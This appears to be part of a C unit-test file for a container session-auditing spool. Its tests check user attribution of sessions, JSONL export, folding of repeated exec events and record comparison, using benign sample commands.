	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &a) == 0 && sink_write(sink, &b) == 0);
	all = records(sp);
	UNIT_CHECK_STR(text_of(entry(all, 0, 1)), two);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* sink_spool_attr_fn of the test: root 5 was opened by alice (decided),
 * root 6 is not decided yet ("6-1"). */
static int attr_of(void *arg, const char *cid, const cJSON *id, uint32_t root,
		   uint64_t root_start, const cJSON **attr, char *root_key, size_t cap)
{
	(void)cid;
	(void)id;
	(void)root_start;
	if (root == 6) {
		snprintf(root_key, cap, "6-1");
		return 1;
	}
	*attr = root == 5 ? arg : NULL;
	return 0;
}

/* --output: each exported line carries its session as spooled: with who
 * opened it when that was decided, else the root it awaits, whose decision
 * then comes as a line of its own; the records say the same person. */
static void test_sink_spool_export_carries_who_opened_the_session(void)
{
	char sub[96], path[128], buf[8192];
	struct spool_opts so = { .dir = sub, .checkpoint_ms = 1, .datasync = no_datasync };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *alice = cJSON_Parse("{\"status\":\"Matched\",\"user\":{\"username\":\"alice\"}}");
	cJSON *bob = cJSON_Parse("{\"status\":\"Matched\",\"user\":{\"username\":\"bob\"}}");
	struct sink_entry l1 = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				 .pid = 7, .session_root = 5, .ts = 1, .tid = 7,
				 .text = "id", .text_len = 2 };
	struct sink_entry l2 = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				 .pid = 7, .session_root = 6, .ts = 2, .tid = 8,
				 .text = "ls", .text_len = 2 };
	struct export *x;
	struct spool *sp;
	struct sink *sink;
	cJSON *line[3] = { NULL }, *recs;
	char *save, *tok;
	ssize_t n;
	int fd, k = 0;

	snprintf(sub, sizeof(sub), "%s/export", dir);
	snprintf(path, sizeof(path), "%s/export.jsonl", dir);
	mkdir(dir, 0700);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(export_open(path, &x) == 0);
	sink_spool_set_export(sink, x);
	sink_spool_attribution(sink, attr_of, alice);
	UNIT_CHECK(sink_write(sink, &l1) == 0);
	UNIT_CHECK(sink_write(sink, &l2) == 0);
	UNIT_CHECK(sink_spool_attribute(sink, "containerd://c1", "6-1", id, bob) == 0);
	export_free(x);
	fd = open(path, O_RDONLY);
	n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	if (fd >= 0)
		close(fd);
	UNIT_CHECK(n > 0);
	buf[n > 0 ? n : 0] = '\0';
	for (tok = strtok_r(buf, "\n", &save); tok && k < 3; tok = strtok_r(NULL, "\n", &save))
		line[k++] = cJSON_Parse(tok);
	UNIT_CHECK(k == 3);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(
			       cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(line[0],
				       "session"), "attribution"), "user"), "username")),
		       "alice");
	UNIT_CHECK(!cJSON_GetObjectItem(cJSON_GetObjectItem(line[1], "session"), "attribution"));
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(
			       cJSON_GetObjectItem(line[1], "session"), "awaiting")),
		       "6-1");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(line[2], "kind")), "attribution");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(
			       cJSON_GetObjectItem(line[2], "session"), "awaiting")),
		       "6-1");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(
			       cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(line[2],
				       "session"), "attribution"), "user"), "username")),
		       "bob");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(line[2], "containerID")),
		       "containerd://c1");
	/* The record of the session says who opened it too. */
	recs = records(sp);
	UNIT_CHECK(cJSON_GetArraySize(recs) == 1);
	UNIT_CHECK(cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetArrayItem(recs, 0), "spec"),
				       "attribution") != NULL);
	cJSON_Delete(recs);
	for (k = 0; k < 3; k++)
		cJSON_Delete(line[k]);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
	cJSON_Delete(alice);
	cJSON_Delete(bob);
}

/* The µs of time member k of entry e (0 when it has none). */
static long long entry_us(const cJSON *e, const char *k)
{
	const char *t = cJSON_GetStringValue(cJSON_GetObjectItem(e, k));
	struct timespec ts;

	if (!t || timefmt_parse(t, &ts) < 0)
		return 0;
	return (long long)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* Whether the records of a and b hold the same entries: the same members,
 * the times within a second (each sink reads the wall clock's offset anew,
 * by two clock reads that a busy machine may preempt between: 17 µs apart
 * was seen while make test ran beside). */
static bool same_entries(const cJSON *a, const cJSON *b)
{
	static const char *const times[] = { "time", "first", "last" };
	const cJSON *ra, *rb, *ea, *eb;
	cJSON *ca, *cb;
	bool same = cJSON_GetArraySize(a) == cJSON_GetArraySize(b);
	size_t k;

	for (ra = a->child, rb = b->child; same && ra && rb; ra = ra->next, rb = rb->next) {
		ea = cJSON_GetObjectItem(cJSON_GetObjectItem(ra, "spec"), "entries");
		eb = cJSON_GetObjectItem(cJSON_GetObjectItem(rb, "spec"), "entries");
		same = cJSON_GetArraySize(ea) == cJSON_GetArraySize(eb) &&
		       cJSON_Compare(
			       cJSON_GetObjectItem(cJSON_GetObjectItem(ra, "spec"), "attribution"),
			       cJSON_GetObjectItem(cJSON_GetObjectItem(rb, "spec"), "attribution"),
			       true);
		for (ea = ea ? ea->child : NULL, eb = eb ? eb->child : NULL; same && ea && eb;
		     ea = ea->next, eb = eb->next) {
			ca = cJSON_Duplicate(ea, 1);
			cb = cJSON_Duplicate(eb, 1);
			for (k = 0; k < 3; k++) {
				long long d = entry_us(ea, times[k]) - entry_us(eb, times[k]);

				same = same && d >= -1000000 && d <= 1000000;
				cJSON_DeleteItemFromObject(ca, times[k]);
				cJSON_DeleteItemFromObject(cb, times[k]);
			}
			same = same && cJSON_Compare(ca, cb, true);
			if (!same)
				fprintf(stderr, "    %s\n    %s\n", cJSON_PrintUnformatted(ea),
					cJSON_PrintUnformatted(eb));
			cJSON_Delete(ca);
			cJSON_Delete(cb);
		}
	}
	return same;
}

/* An exec the same as the last one folded but for its pid, ppid and time
 * goes into that fold without its entry being made (sink_spool_exec_again).
 * The records are those the same execs make entry by entry (a sink with an
 * export, which wants each entry, makes each): two sessions interleave,
 * one decided, one awaiting its opener until the 200th exec; the program
 * changes every 7 execs, a typed line now and then; the gather ends every
 * 50 execs, the ring buffer's records are released every 23. The execs
 * come 1 ms apart: with a window of window_ms (0: the default), folds end
 * by time too. */
static void same_exec_goes_into_its_fold_as_an_entry_would(long window_ms)
{
	static const char *const progs[] = { "true", "date", "id" };
	char sub[2][96], path[128];
	struct spool_opts so = { .checkpoint_ms = 1,
				 .batch_age_ms = 3600000,
				 .aggregate_ms = window_ms,
				 .datasync = no_datasync,
				 .event_wanted = no_exec_events };
	cJSON *id = ident("containerd://c1", "p");
	cJSON *alice = cJSON_Parse("{\"status\":\"Matched\",\"user\":{\"username\":\"alice\"}}");
	cJSON *bob = cJSON_Parse("{\"status\":\"Matched\",\"user\":{\"username\":\"bob\"}}");
	struct sink_spool_stats st[2];
	struct spool_stats ss[2];
	struct spool *sp[2];
	struct sink *sink[2];
	struct export *x;
	cJSON *recs[2];
	char argv[32];
	int i, k;

	mkdir(dir, 0700);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	snprintf(path, sizeof(path), "%s/again.jsonl", dir);
	for (k = 0; k < 2; k++) {
		snprintf(sub[k], sizeof(sub[k]), "%s/again%d", dir, k);
		so.dir = sub[k];
		UNIT_CHECK(spool_open(&so, &sp[k]) == 0);
		UNIT_CHECK(sink_spool_open(sp[k], lookup, NULL, &sink[k]) == 0);
		sink_spool_attribution(sink[k], attr_of, alice);
		sink_gather(sink[k], true);
	}
	UNIT_CHECK(export_open(path, &x) == 0);
	sink_spool_set_export(sink[1], x);
	for (i = 0; i < 400; i++) {
		const char *prog = progs[(i / 7) % 3];
		size_t n = (size_t)snprintf(argv, sizeof(argv), "%s%c-x", prog, '\0');
		char file[32];
		struct sink_entry ex = { .kind = SINK_EXEC,
					 .container = "containerd://c1",
					 .session = 7,
					 .pid = 1000 + (uint32_t)i,
					 .tid = 1000 + (uint32_t)i,
					 .ppid = 5 + (uint32_t)(i % 2),
					 .session_root = 5 + (uint32_t)(i % 2),
					 .ts = 1000000000ull + (uint64_t)i * 1000000,
					 .text = argv,
					 .text_len = n + 1,
					 .argc = 2,
					 .filename = file };
		struct sink_entry line = { .kind = SINK_LINE,
					   .container = "containerd://c1",
					   .session = 7,
					   .pid = 5,
					   .tid = 5,
					   .session_root = 5,
					   .ts = ex.ts + 1,
					   .text = "ls",
					   .text_len = 2 };

		ex.filename_len = (size_t)snprintf(file, sizeof(file), "/bin/%s", prog);
		for (k = 0; k < 2; k++) {
			if (i == 200)
				UNIT_CHECK(sink_spool_attribute(sink[k], "containerd://c1", "6-1",
								id, bob) == 0);
			UNIT_CHECK(sink_write(sink[k], &ex) == 0);
			if (i % 61 == 60)
				UNIT_CHECK(sink_write(sink[k], &line) == 0);
			if (i % 23 == 22)
				UNIT_CHECK(sink_settle(sink[k]) == 0);
			if (i % 50 == 49) {
				sink_gather(sink[k], false);
				sink_gather(sink[k], true);
			}
		}
	}
	for (k = 0; k < 2; k++) {
		sink_gather(sink[k], false);
		sink_spool_get_stats(sink[k], &st[k]);
		spool_get_stats(sp[k], &ss[k]);
		UNIT_CHECK(st[k].entries == 400 + 400 / 61);
		recs[k] = records(sp[k]);
	}
	/* Folded all the same: fewer items than execs, as many for both. */
	UNIT_CHECK(st[0].again > (window_ms ? 100 : 200) && st[1].again == 0);
	UNIT_CHECK(ss[0].ej.appended == ss[1].ej.appended);
	UNIT_CHECK(ss[0].ej.appended < (window_ms ? 300 : 200));
	if (window_ms) /* each window a fold of its own */
		UNIT_CHECK(ss[0].ej.appended > 400 / (size_t)window_ms);
	UNIT_CHECK(cJSON_GetArraySize(recs[0]) > 0);
	UNIT_CHECK(same_entries(recs[0], recs[1]));
	for (k = 0; k < 2; k++) {
		cJSON_Delete(recs[k]);
		sink_close(sink[k]);
		spool_close(sp[k]);
	}
	export_free(x);
	cJSON_Delete(id);
	cJSON_Delete(alice);
	cJSON_Delete(bob);
}

static void test_sink_spool_same_exec_goes_into_its_fold_as_an_entry_would(void)
{
	same_exec_goes_into_its_fold_as_an_entry_would(0);
}

static void test_sink_spool_same_exec_folds_end_with_their_window(void)
{
	same_exec_goes_into_its_fold_as_an_entry_would(7);
}

int main(void)
{
	static const struct unit_test tests[] = {
		UNIT_TEST(test_sink_spool_redacts_escapes_and_filters),
		UNIT_TEST(test_sink_spool_terminal_lines),
		UNIT_TEST(test_sink_spool_bounds_long_lines),
		UNIT_TEST(test_sink_spool_entry_time_follows_the_wall_clock),
		UNIT_TEST(test_sink_spool_event_met_again_after_restart_is_kept_once),
		UNIT_TEST(test_sink_spool_knows_the_records_it_spooled_before_a_crash),
		UNIT_TEST(test_sink_spool_stopped_is_the_chain_last_entry),
		UNIT_TEST(test_sink_spool_namespace_and_off_entries),
		UNIT_TEST(test_sink_spool_full_gap_goes_to_each_chain_that_lost),
		UNIT_TEST(test_sink_spool_folds_not_written_are_a_gap),
		UNIT_TEST(test_sink_spool_pending_sessions_are_bounded),
		UNIT_TEST(test_sink_spool_held_share_loss_is_a_pending_gap),
		UNIT_TEST(test_sink_spool_stopped_goes_in_past_the_share),
		UNIT_TEST(test_sink_spool_held_counts_what_came_before_the_hold),
		UNIT_TEST(test_sink_spool_exec_from_sessions),
		UNIT_TEST(test_sink_spool_lines_as_typed_or_escaped_and_marked),
		UNIT_TEST(test_sink_spool_secret_split_over_arguments),
		UNIT_TEST(test_sink_spool_exec_of_an_unlinked_file_names_it),
		UNIT_TEST(test_sink_spool_rule_that_cannot_finish_keeps_the_command),
		UNIT_TEST(test_sink_spool_withheld_command_is_still_redacted),
		UNIT_TEST(test_sink_spool_secret_after_a_continued_line),
		UNIT_TEST(test_sink_spool_a_comment_ending_in_a_backslash_continues_nothing),
		UNIT_TEST(test_sink_spool_export_carries_who_opened_the_session),
		UNIT_TEST(test_sink_spool_same_exec_goes_into_its_fold_as_an_entry_would),
		UNIT_TEST(test_sink_spool_same_exec_folds_end_with_their_window),
	};
	char cmd[128];
	int ret;

	snprintf(dir, sizeof(dir), "/tmp/test_sink_spool.%d", (int)getpid());
	ret = unit_main(tests, ARRAY_SIZE(tests));
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	if (system(cmd) != 0)
		fprintf(stderr, "cannot remove %s\n", dir);
	return ret;
}
